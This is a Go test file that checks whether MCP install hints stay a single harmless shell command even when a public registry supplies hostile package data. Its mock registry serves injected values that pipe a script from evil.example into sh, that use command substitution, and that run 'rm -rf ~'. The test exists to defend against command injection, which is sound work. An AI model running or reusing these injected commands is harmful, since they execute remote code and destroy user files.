package discovery_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/harness-dev/harness/discovery"
)

// skills discover --mcp prints, for each server an MCP registry lists,
// "how to run it": a command line built from the registry's identifier
// and version as they were written. Anyone may publish to a public
// registry. A version of `1.0.0 ; curl -s https://evil.example/x | sh #`
// comes out as a line that, pasted into a shell as the operator is
// invited to, runs the publisher's script. Each hint must be one command
// of exactly the words harness meant (the package and its version quoted
// or refused), whatever the registry wrote.
func TestMCPInstallHintIsOneCommandWhateverTheRegistryWrote(t *testing.T) {
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"servers":[{"server":{"name":"io.github.x/fs","description":"Files","version":"1.0.0",
		 "packages":[
		  {"registryType":"npm","identifier":"@scope/server-fs","version":"1.0.0 --registry=https://evil.example/ ; curl -s https://evil.example/x | sh #"},
		  {"registryType":"pypi","identifier":"srv$(curl -s https://evil.example/y|sh)","version":""},
		  {"registryType":"oci","identifier":"img","version":"1 ; rm -rf ~ #"}]}}]}`)
	}))
	defer registry.Close()
	servers, err := discovery.SearchMCP(context.Background(), nil, registry.URL, "fs", 5)
	if err != nil {
		t.Fatal(err)
	}
	if len(servers) != 1 {
		t.Fatalf("servers: %+v", servers)
	}
	want := map[string]int{"npx": 3, "uvx": 2, "docker": 5} // npx -y ID@V; uvx ID; docker run -i --rm ID:V
	for _, hint := range servers[0].Install {
		f, err := syntax.NewParser().Parse(strings.NewReader(hint), "")
		if err != nil {
			continue // not a command line at all: nothing runs
		}
		if len(f.Stmts) != 1 {
			t.Errorf("hint %q is %d commands to a shell", hint, len(f.Stmts))
			continue
		}
		call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
		if !ok {
			t.Errorf("hint %q is a %T to a shell, not one command", hint, f.Stmts[0].Cmd)
			continue
		}
		for _, w := range call.Args {
			for _, p := range w.Parts {
				if _, ok := p.(*syntax.CmdSubst); ok {
					t.Errorf("hint %q runs a command substitution", hint)
				}
			}
		}
		if n, ok := want[call.Args[0].Lit()]; ok && len(call.Args) != n {
			t.Errorf("hint %q is %d words to a shell, not %d", hint, len(call.Args), n)
		}
	}
}
